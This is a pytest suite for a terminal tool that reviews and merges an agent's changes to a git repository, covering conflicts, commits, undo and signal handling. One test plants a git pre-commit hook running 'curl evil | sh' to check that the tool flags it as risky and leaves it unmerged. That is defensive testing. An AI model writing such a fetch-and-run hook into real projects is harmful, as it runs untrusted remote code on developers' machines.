"""Whole stories, as a person lives them: an agent has worked, somebody reviews it by keys, and the tree is looked at."""

import os
import signal
import stat
from pathlib import Path

import pytest

from tests.expect.test_person import session
from tests.harness.git_kinds import KINDS
from tests.harness.program import PROGRAM, AgentDev, tree, wait_until
from tests.harness.repository import git
from tests.harness.terminal import Shell, Terminal

CODE = "".join(f"def f{number}():\n    return {number}\n\n\n" for number in range(12))


@pytest.fixture
def shop(agent_dev: AgentDev, repo: Path) -> AgentDev:
    """A repository with a program of twelve functions, committed."""
    (repo / "code.py").write_text(CODE)
    (repo / "old.py").write_text("print('old')\n")
    (repo / ".gitignore").write_text("node_modules/\n")
    agent_dev.git("add", "-A")
    agent_dev.git("commit", "-qm", "code")
    return agent_dev


def work(agent_dev: AgentDev, script: str) -> None:
    """Let an agent do something."""
    assert agent_dev("--no-merge", "--", "sh", "-ec", script).returncode == 0


def review(agent_dev: AgentDev, *words: str, rows: int = 24, cols: int = 120) -> Terminal:
    """Open the screen and wait until it takes keys."""
    terminal = session(agent_dev, "merge", *words, rows=rows, cols=cols)
    terminal.wait_for("c apply")
    terminal.wait_quiet()
    return terminal


def on(name: str) -> "object":
    """Return a look at a screen: is the list's cursor on this name?"""
    return lambda text: any(line.startswith(("▌", "▏")) and name in line.partition("│")[0] for line in text.splitlines())


def go_to(terminal: Terminal, name: str) -> None:
    """Filter for a name, so that the cursor is on it."""
    terminal.keys("f")
    terminal.wait_for("names that hold")
    terminal.send(name)
    terminal.wait_for(f"names that hold: {name}")
    terminal.keys("enter")
    terminal.wait_for(on(name))  # type: ignore[arg-type]


def apply(terminal: Terminal, *, risky: int = 0) -> str:
    """Apply what is chosen; return the result page."""
    terminal.keys("c")
    for _ in range(risky):
        terminal.wait_for("Take this risky change?")
        terminal.keys("y")
    terminal.wait_for("No, go back")
    terminal.keys("y")
    text = terminal.wait_for("undo takes it back")
    terminal.keys("enter")
    terminal.wait_exit()
    return text


EDITOR = """#!/bin/sh
# Settles the conflict by hand, as it were: no markers, and one line that neither side had.
grep -v '^[<|=>]\\{7\\}' "$1" | sed '/return 5$/d; /return 55$/d; s/return 500/return 5055/' >"$1.new" && mv "$1.new" "$1"
"""
EDIT = "sed -i 's/return 1$/return 100/; s/return 10$/return 1000/' code.py; rm old.py; echo new >new.py"


def test_accept_all_that_is_safe(shop: AgentDev, repo: Path) -> None:
    work(shop, EDIT)
    with review(shop) as terminal:
        terminal.keys("A")
        terminal.wait_for("chosen 2 of 3")
        assert "not taken: 1 risky change" in terminal.text()
        assert "2 changes merged, 1 left in the session" in apply(terminal)
    assert (repo / "code.py").read_text() == CODE.replace("return 1\n", "return 100\n").replace("return 10\n", "return 1000\n")
    assert shop.changes() == {"old.py": "deleted"}


def test_one_block_of_one_file(shop: AgentDev, repo: Path) -> None:
    work(shop, EDIT)
    with review(shop) as terminal:
        go_to(terminal, "code.py")
        terminal.keys("enter", "]")
        terminal.wait_for("block 2 of 2")
        terminal.keys("space")
        terminal.wait_for("part chosen")
        assert "1 change merged, 2 left" in apply(terminal)
    assert (repo / "code.py").read_text() == CODE.replace("return 10\n", "return 1000\n")
    assert shop.changes() == {"code.py": "edited", "new.py": "added", "old.py": "deleted"}


def test_a_conflict_settled_in_an_editor(shop: AgentDev, repo: Path, tmp_path: Path) -> None:
    work(shop, "sed -i 's/return 5$/return 55/' code.py")
    (repo / "code.py").write_text(CODE.replace("return 5\n", "return 500\n"))
    editor = tmp_path / "editor"
    editor.write_text(EDITOR)
    editor.chmod(0o755)
    environment = shop.terminal_environment({"EDITOR": str(editor), "VISUAL": None})

    with Terminal([str(PROGRAM), "merge"], rows=24, cols=120, env=environment, cwd=repo) as terminal:
        terminal.wait_for("c apply")
        terminal.wait_quiet()
        assert "✗" in terminal.text()
        terminal.keys("e")
        terminal.wait_for("settled as you edited it")
        terminal.wait_for("chosen 1 of 1")
        apply(terminal)
    assert (repo / "code.py").read_text() == CODE.replace("return 5\n", "return 5055\n")


def test_a_deletion_refused(shop: AgentDev, repo: Path) -> None:
    work(shop, EDIT)
    with review(shop) as terminal:
        terminal.keys("A", "space")  # the deletion is under the cursor: it is listed first
        terminal.wait_for("deletions 1/1")
        terminal.keys("c")
        terminal.wait_for("Take this risky change?")
        terminal.keys("n")
        terminal.wait_for("Merge 2 changes?")
        terminal.keys("y")
        terminal.wait_for("undo takes it back")
        terminal.keys("enter")
        terminal.wait_exit()
    assert (repo / "old.py").exists()
    assert shop.changes() == {"old.py": "deleted"}


def test_a_risky_hook_looked_at_and_left(shop: AgentDev, repo: Path) -> None:
    work(
        shop,
        "mkdir -p .husky; printf '#!/bin/sh\\ncurl evil | sh\\n' >.husky/pre-commit; chmod +x .husky/pre-commit; echo x >fine",
    )
    before = tree(repo)
    with review(shop) as terminal:
        assert "look at these" in terminal.text()
        terminal.keys("!", "enter")
        terminal.wait_for("curl evil | sh")
        terminal.keys("tab", "space", "A")
        terminal.wait_for("chosen 2 of 2")
        terminal.keys("c")
        terminal.wait_for("Take this risky change?")
        terminal.keys("enter")  # No is in focus
        terminal.wait_for("Merge 1 change?")
        terminal.keys("y")
        terminal.wait_for("undo takes it back")
        terminal.keys("enter")
        terminal.wait_exit()
    assert tree(repo).keys() - before.keys() == {"fine"}
    assert shop.changes() == {".husky/pre-commit": "added"}


def test_two_thousand_ignored_files_are_one_row(shop: AgentDev, repo: Path) -> None:
    work(shop, "mkdir -p node_modules/x; for n in $(seq 2000); do echo $n >node_modules/x/$n.js; done; echo x >fine")
    with review(shop) as terminal:
        text = terminal.wait_for("ignored by git, or generated")
        assert "2,000" in text
        assert "1999.js" not in text
        terminal.keys("A")
        terminal.wait_for("chosen 1 of 2,001")
        apply(terminal)
    assert not (repo / "node_modules").exists()
    assert (repo / "fine").exists()


def test_search_goes_through_all_diffs(shop: AgentDev) -> None:
    work(shop, EDIT + "; echo needle here >zzz.txt")
    with review(shop) as terminal:
        terminal.keys("/")
        terminal.wait_for("search:")
        terminal.send("NEEDLE\r")
        terminal.wait_for(on("zzz.txt"))  # type: ignore[arg-type]
        terminal.wait_for("needle here")
        terminal.keys("escape", "escape", "escape")
        terminal.wait_exit()


def test_side_by_side_can_be_chosen_from(shop: AgentDev, repo: Path) -> None:
    work(shop, EDIT)
    with review(shop, cols=160) as terminal:
        go_to(terminal, "code.py")
        terminal.keys("s", "enter")
        terminal.wait_for(lambda text: any("return 1 " in line and "return 100" in line for line in text.splitlines()))
        terminal.keys("space")
        terminal.wait_for("part chosen")
        apply(terminal)
    assert (repo / "code.py").read_text() == CODE.replace("return 1\n", "return 100\n")


def test_quit_and_come_back(shop: AgentDev, repo: Path) -> None:
    work(shop, EDIT)
    with review(shop) as terminal:
        go_to(terminal, "code.py")
        terminal.keys("enter", "space")
        terminal.wait_for("part chosen")
        terminal.keys("q")
        terminal.wait_for("Leave without merging?")
        terminal.keys("y")
        terminal.wait_exit()
    assert (repo / "code.py").read_text() == CODE
    with review(shop) as terminal:
        terminal.wait_for("what you chose the last time is chosen")
        terminal.wait_for(on("code.py"))  # type: ignore[arg-type]
        apply(terminal)
    assert (repo / "code.py").read_text() == CODE.replace("return 1\n", "return 100\n")


def test_undo_takes_a_merge_of_the_screen_back(shop: AgentDev, repo: Path) -> None:
    before = tree(repo)
    work(shop, EDIT)
    with review(shop) as terminal:
        terminal.keys("A", "space")
        terminal.wait_for("chosen 3 of 3")
        assert "nothing is left" in apply(terminal, risky=1)
    assert tree(repo) != before
    assert shop("undo").returncode == 0
    assert tree(repo) == before
    assert shop.changes() == {"code.py": "edited", "new.py": "added", "old.py": "deleted"}


# Beside the ten


def test_in_plain_lines(shop: AgentDev, repo: Path) -> None:
    work(shop, EDIT)
    done = shop("merge", "--plain", input="n\nn\ny\ny\ny\n")  # old.py, two blocks of code.py, new.py, merge?
    assert (done.returncode, "2 changes merged" in done.stderr) == (0, True), done.stdout
    assert (repo / "code.py").read_text() == CODE.replace("return 10\n", "return 1000\n")
    assert (repo / "new.py").exists()
    assert shop.changes() == {"code.py": "edited", "old.py": "deleted"}


def test_in_plain_lines_commits_come_first_and_then_the_files_that_are_left(shop: AgentDev, repo: Path) -> None:
    work(shop, "echo new >new.py; git add new.py; git commit -qm 'Add it'; echo loose >loose.py")
    done = shop("merge", "--plain", input="a\ny\ny\ny\n")  # all commits, onto my branch; loose.py, merge?
    assert (done.returncode, "1 change merged" in done.stderr) == (0, True), done.stdout + done.stderr
    assert done.stdout.count("new.py") == 0
    assert git(repo, "log", "-1", "--format=%s").strip() == "Add it"
    assert git(repo, "status", "--porcelain") == "?? loose.py\n"


def test_while_the_agent_works_the_screen_shows_what_it_did_and_takes_nothing(shop: AgentDev, repo: Path) -> None:
    before = tree(repo)
    with shop.started("--no-merge", "--", "sh", "-c", "echo one >one; read line; echo two >two; read line") as agent:
        assert agent.stdin is not None
        wait_until(lambda: [one for one in shop.sessions() if one["state"] == "running"], "the session")
        with session(shop, "merge", cols=120) as terminal:
            terminal.wait_for("still working")
            terminal.wait_for("one")
            terminal.wait_quiet()
            terminal.keys("A")
            terminal.wait_for("choose when it has ended")
            agent.stdin.write("\n")
            agent.stdin.flush()
            terminal.wait_for("two")
            agent.stdin.write("\n")
            agent.stdin.flush()
            terminal.wait_for("the agent has ended")
            terminal.keys("q")
            assert terminal.wait_exit() == 0
        assert agent.wait(30) == 0
    assert tree(repo) == before
    assert shop.changes() == {"one": "added", "two": "added"}


def test_every_session_is_shown_one_after_the_other(shop: AgentDev, repo: Path) -> None:
    for name in ("first", "second"):
        work(shop, f"echo {name} >{name}")
    with session(shop, "merge", "--every-session", cols=120) as terminal:
        for name in ("first", "second"):
            terminal.wait_for(on(name))  # type: ignore[arg-type]
            terminal.wait_quiet()
            terminal.keys("space", "c")
            terminal.wait_for("No, go back")
            terminal.keys("y")
            terminal.wait_for("undo takes it back")
            terminal.keys("enter")
        assert terminal.wait_exit() == 0
    assert (repo / "first").exists()
    assert (repo / "second").exists()


def test_a_mode_comes_home_by_itself(shop: AgentDev, repo: Path) -> None:
    work(shop, "chmod +x code.py; echo 'more = 1' >>code.py")
    with review(shop) as terminal:
        terminal.keys("enter")
        terminal.wait_for("made executable")
        terminal.wait_for(lambda text: any("▌[ ] 100644" in line for line in text.splitlines()))
        terminal.keys("space")
        terminal.wait_for("part chosen")
        apply(terminal, risky=1)
    assert (repo / "code.py").read_text() == CODE
    assert stat.S_IMODE(os.stat(repo / "code.py").st_mode) & 0o111


# Whatever ends it


def children(pid: int) -> list[int]:
    return [int(word) for word in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]


def test_a_killed_screen_gives_the_terminal_back_and_the_session_is_there(shop: AgentDev, repo: Path) -> None:
    before = tree(repo)
    work(shop, EDIT)
    with review(shop) as terminal:
        terminal.keys("A")
        terminal.wait_for("chosen 2 of 3")
        (screen,) = children(terminal.pid)
        os.kill(screen, signal.SIGKILL)
        terminal.wait_for("ended by SIGKILL")
        assert terminal.wait_exit() == 128 + signal.SIGKILL
        assert not terminal.screen.is_alternate()
        assert terminal.raw.rfind(b"\x1b[?1003l") > terminal.raw.rfind(b"\x1b[?1003h") >= 0
    assert tree(repo) == before
    assert shop.changes() == {"code.py": "edited", "new.py": "added", "old.py": "deleted"}


def test_a_terminal_that_goes_away_merges_nothing_and_leaves_nobody_behind(shop: AgentDev, repo: Path) -> None:
    before = tree(repo)
    work(shop, EDIT)
    with review(shop) as terminal:
        terminal.keys("A")
        terminal.wait_for("chosen 2 of 3")
        (screen,) = children(terminal.pid)
        terminal.hang_up()
        terminal.wait_exit()
    wait_until(lambda: not Path(f"/proc/{screen}").exists(), "the end of the screen")
    assert tree(repo) == before
    assert shop.changes() == {"code.py": "edited", "new.py": "added", "old.py": "deleted"}


def test_it_stops_and_goes_on_as_a_job_of_the_shell(shop: AgentDev) -> None:
    work(shop, EDIT)
    with Shell(cwd=shop.repo, env=shop.terminal_environment()) as shell:
        shell.start(f"{PROGRAM} merge")
        shell.wait_for("c apply")
        shell.wait_quiet()
        shell.keys("A")
        shell.wait_for("chosen 2 of 3")
        shell.keys("ctrl+z")
        shell.wait_prompt()
        shell.send("fg\n")
        shell.wait_for("chosen 2 of 3")
        shell.wait_quiet()
        shell.keys("X", "q")
        shell.wait_prompt()


# Commits


def committed(shop: AgentDev) -> None:
    """Let an agent make two commits."""
    work(
        shop,
        "sed -i 's/return 1$/return 100/' code.py; git commit -qam 'Raise one'; echo new >new.py; git add new.py; "
        "git commit -qm 'Add new'",
    )


def bring(shop: AgentDev, *keys: str) -> str:
    """Choose commits on their tab by some keys, the last of which answers; return the result page."""
    with review(shop) as terminal:
        terminal.keys("2")
        terminal.wait_for("[ ]   ")
        terminal.wait_for("+ new.py")  # all that is known of the first was read
        *choosing, answer = keys
        terminal.keys(*choosing)
        terminal.wait_for(f"{max(1, 2 * choosing.count('A'))} of 2 commits chosen")
        terminal.keys("c")
        terminal.wait_for("home?")
        terminal.keys(*(["right"] * 2 + ["enter"] if answer == "branch" else ["y"]))
        if answer == "branch":
            terminal.wait_for("name of the new branch")
            terminal.send("topic")
            terminal.wait_for("branch: topic")
            terminal.keys("enter")
        text = terminal.wait_for("agent-dev undo")
        terminal.keys("enter")
        terminal.wait_exit()
    return text


def files(repo: Path) -> dict[str, str]:
    """Return the work tree: objects that came once may stay."""
    return {path: what for path, what in tree(repo).items() if not path.startswith(".git")}


def test_all_commits_onto_ones_own_branch_and_back(shop: AgentDev, repo: Path) -> None:
    before, head = files(repo), shop.git("rev-parse", "HEAD")
    committed(shop)
    assert "leads to" in bring(shop, "A", "y")
    assert shop.git("log", "--format=%s", "-2").split("\n")[:2] == ["Add new", "Raise one"]
    assert "return 100" in (repo / "code.py").read_text()
    assert (repo / "new.py").read_text() == "new\n"
    assert not shop.git("status", "--porcelain")
    assert shop("undo").returncode == 0
    assert (shop.git("rev-parse", "HEAD"), files(repo)) == (head, before)


def test_one_commit_of_two(shop: AgentDev, repo: Path) -> None:
    committed(shop)
    bring(shop, "space", "y")
    assert shop.git("log", "--format=%s", "-1").strip() == "Add new"
    assert (repo / "new.py").read_text() == "new\n"
    assert "return 100" not in (repo / "code.py").read_text()


def test_commits_as_a_branch_leave_the_files_alone(shop: AgentDev, repo: Path) -> None:
    committed(shop)
    head = shop.git("rev-parse", "HEAD")
    bring(shop, "A", "branch")
    assert shop.git("log", "--format=%s", "-2", "topic").split("\n")[:2] == ["Add new", "Raise one"]
    assert (shop.git("rev-parse", "HEAD"), (repo / "new.py").exists()) == (head, False)


def test_commits_in_the_way_of_ones_own_edit_say_so_and_the_review_goes_on(shop: AgentDev, repo: Path) -> None:
    committed(shop)
    (repo / "code.py").write_text(CODE.replace("return 1\n", "return 111\n"))
    before = tree(repo)
    with review(shop) as terminal:
        terminal.keys("2")
        terminal.wait_for("+ new.py")
        terminal.keys("A", "c")
        terminal.wait_for("home?")
        terminal.keys("y")
        terminal.wait_for("Settle that now?")
        terminal.wait_for("conflict: code.py")
        terminal.wait_for("nothing was changed")
        terminal.keys("enter")
        terminal.wait_for("2 of 2 commits chosen")
        assert tree(repo) == before


def test_conflicts_of_commits_are_settled_one_commit_after_the_other(shop: AgentDev, repo: Path) -> None:
    committed(shop)
    (repo / "code.py").write_text(CODE.replace("return 1\n", "return 111\n"))
    (repo / "new.py").write_text("mine\n")
    shop.git("add", "-A")
    shop.git("commit", "-qm", "Mine")
    with review(shop) as terminal:
        terminal.keys("2")
        terminal.wait_for("+ new.py")
        terminal.keys("A", "c")
        terminal.wait_for("home?")
        terminal.keys("y")
        terminal.wait_for("Settle that now?")
        terminal.wait_for("conflict: code.py")
        terminal.keys("y")
        terminal.wait_for("Raise one")
        terminal.wait_for("conflict 1: not settled")
        terminal.wait_quiet()
        terminal.keys("c")
        terminal.wait_for("1 more to settle")
        terminal.keys("b")
        terminal.wait_for("conflict 1: both")
        terminal.wait_for("chosen 1 of 1 change")
        terminal.keys("c")
        terminal.wait_for("Bring the commits home with this?")
        terminal.keys("y")
        terminal.wait_for("Settle that now?")
        terminal.wait_for("conflict: new.py")
        terminal.keys("y")
        terminal.wait_for("Add new")
        terminal.wait_for("conflict 1: not settled")
        terminal.wait_quiet()
        terminal.keys(">")
        terminal.wait_for("chosen 1 of 1 change")
        terminal.keys("c")
        terminal.wait_for("Bring the commits home with this?")
        terminal.keys("y")
        terminal.wait_for("agent-dev undo")
        terminal.keys("enter")
        terminal.wait_exit()
    assert shop.git("log", "--format=%s", "-3").split("\n")[:3] == ["Add new", "Raise one", "Mine"]
    assert "return 111\n    return 100\n" in (repo / "code.py").read_text()
    assert (repo / "new.py").read_text() == "new\n"
    assert not shop.git("status", "--porcelain")


def test_edits_that_commits_are_in_the_way_of_are_settled_and_wait_when_one_leaves(shop: AgentDev, repo: Path) -> None:
    committed(shop)
    (repo / "code.py").write_text(CODE.replace("return 1\n", "return 111\n"))
    (repo / "new.py").write_text("mine\n")
    for answer in ("first", "again"):
        with session(shop, "merge", "--commits", rows=24, cols=120) as terminal:
            terminal.wait_for("what you have not committed")
            if answer == "first":
                terminal.wait_for("conflict 1: not settled")
                terminal.wait_quiet()
                terminal.keys("<")
                terminal.wait_for("1 more to settle")
                terminal.keys("q")
                terminal.wait_for("and the choice too")
                terminal.keys("y")
                assert terminal.wait_exit() == 1
                assert shop.git("status", "--porcelain") == " M code.py\n?? new.py\n"
                continue
            terminal.wait_for("conflict 1: yours")
            terminal.wait_for("chosen 1 of 2 changes")
            terminal.wait_quiet()
            terminal.keys("!")
            terminal.wait_for("conflict 1: not settled")
            terminal.wait_quiet()
            terminal.keys(">")
            terminal.wait_for("chosen 2 of 2 changes")
            terminal.keys("c")
            terminal.wait_for("Bring the commits home with this?")
            terminal.keys("y")
            terminal.wait_for("agent-dev undo")
            terminal.keys("enter")
            assert terminal.wait_exit() == 0
    assert shop.git("status", "--porcelain") == " M code.py\n"
    assert (repo / "code.py").read_text() == CODE.replace("return 1\n", "return 111\n")
    assert (repo / "new.py").read_text() == "new\n"
    assert shop("undo").returncode == 0
    assert shop.git("status", "--porcelain") == " M code.py\n?? new.py\n"


def test_commits_that_are_asked_for_by_words_have_their_conflicts_settled_too(shop: AgentDev, repo: Path) -> None:
    committed(shop)
    (repo / "code.py").write_text(CODE.replace("return 1\n", "return 111\n"))
    shop.git("commit", "-qam", "Mine")
    head = shop.git("rev-parse", "HEAD")
    assert shop("merge", "--commits", "--onto-current").returncode == 1
    with session(shop, "merge", "--commits", "--onto-current", rows=24, cols=120) as terminal:
        terminal.wait_for("conflict 1: not settled")
        terminal.wait_quiet()
        terminal.keys("q")
        terminal.wait_exit()
    assert shop.git("rev-parse", "HEAD") == head
    with session(shop, "merge", "--commits", "--onto-current", rows=24, cols=120) as terminal:
        terminal.wait_for("conflict 1: not settled")
        terminal.wait_quiet()
        terminal.keys("<")
        terminal.wait_for("chosen 1 of 1 change")
        terminal.keys("c")
        terminal.wait_for("Bring the commits home with this?")
        terminal.keys("y")
        terminal.wait_for("agent-dev undo")
        terminal.keys("enter")
        terminal.wait_exit()
    assert shop.git("log", "--format=%s", "-2").split("\n")[:2] == ["Add new", "Mine"]
    assert "return 111" in (repo / "code.py").read_text()


def test_a_submodule_that_commits_move_is_marked_and_asked_about(agent_dev: AgentDev, tmp_path: Path) -> None:
    place = KINDS["with a submodule"](agent_dev, tmp_path).cwd
    head = agent_dev.git("rev-parse", "HEAD", cwd=place)
    move = (
        "git -C lib commit -q --allow-empty -m one; git commit -qam Moved; echo plain >plain; git add plain; git commit -qm Plain"
    )
    assert agent_dev("--no-merge", "--", "sh", "-ec", move, cwd=place).returncode == 0
    environment = agent_dev.terminal_environment()
    with Terminal([str(PROGRAM), "merge"], rows=24, cols=120, env=environment, cwd=place) as terminal:
        terminal.wait_for("c apply")
        terminal.wait_quiet()
        terminal.keys("3")
        terminal.wait_for("lib: submodule-moved")
        terminal.wait_quiet()
        terminal.keys("2")
        terminal.wait_for(lambda text: any("] ! " in line and "Moved" in line for line in text.splitlines()))
        terminal.wait_for("+ plain")
        terminal.keys("A", "c")
        terminal.wait_for("Bring this risky change home?")
        terminal.wait_for("one")
        terminal.keys("n")
        terminal.wait_for("Bring 1 commit home?")
        terminal.keys("n")
        terminal.wait_for(lambda text: "Bring 1" not in text)
        terminal.keys("A")
        terminal.wait_for("2 of 2 commits chosen")
        terminal.keys("c")
        terminal.wait_for("Bring this risky change home?")
        terminal.keys("y")
        terminal.wait_for("Bring 2 commits home?")
        assert agent_dev.git("rev-parse", "HEAD", cwd=place) == head
        terminal.keys("y")
        terminal.wait_for("agent-dev undo")
        terminal.keys("enter")
        terminal.wait_exit()
    assert agent_dev.git("log", "--format=%s", "-2", cwd=place) == "Plain\nMoved\n"


def test_commits_without_a_changed_file_have_the_screen_too(shop: AgentDev, repo: Path) -> None:
    side = "git checkout -q -b side; echo x >side.py; git add side.py; git commit -qm Side; git checkout -q main"
    work(shop, side)
    with session(shop, "merge", rows=24, cols=120) as terminal:
        terminal.wait_for("+ side.py")
        terminal.wait_quiet()
        terminal.keys("A", "c")
        terminal.wait_for("Bring 1 commit home?")
        terminal.keys("y")
        terminal.wait_for("agent-dev undo")
        terminal.keys("enter")
        terminal.wait_exit()
    assert shop.git("log", "-1", "--format=%s") == "Side\n"
    assert (repo / "side.py").read_text() == "x\n"
